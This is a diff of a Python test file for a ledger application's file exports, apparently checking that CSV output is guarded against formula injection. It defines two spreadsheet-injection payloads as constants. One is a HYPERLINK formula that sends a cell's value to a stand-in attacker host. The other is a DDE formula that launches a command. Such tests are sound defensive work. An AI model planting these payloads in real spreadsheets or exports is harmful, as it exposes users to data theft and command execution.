@@ -20,19 +20,13 @@ from application.ledger import Ledger
 from application.store.database import DATABASE_URL_ENV
 from application.use_cases import UseCases
 from bench.history import Driver
-from interface.cli.main import main
 from projections.export_files import OutputFolder, UnsafeOutput
 from tests.projections.scenario import replay_what_exports_read
+from tests.projections.support import run_cli as run
 
 START, END = "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"  # the clock starts on 2026-03-10
 HYPERLINK = '=HYPERLINK("https://attacker.invalid/?"&A2,"Click")'
 CALC = "=2+5+cmd|'/Ccalc'!A0"
-
-
-def run(*argv: str) -> int:
-    with pytest.raises(SystemExit) as exit_:
-        main(list(argv))
-    return exit_.value.code
 
 
 def export(out: Path, file_format: str = "csv") -> int:
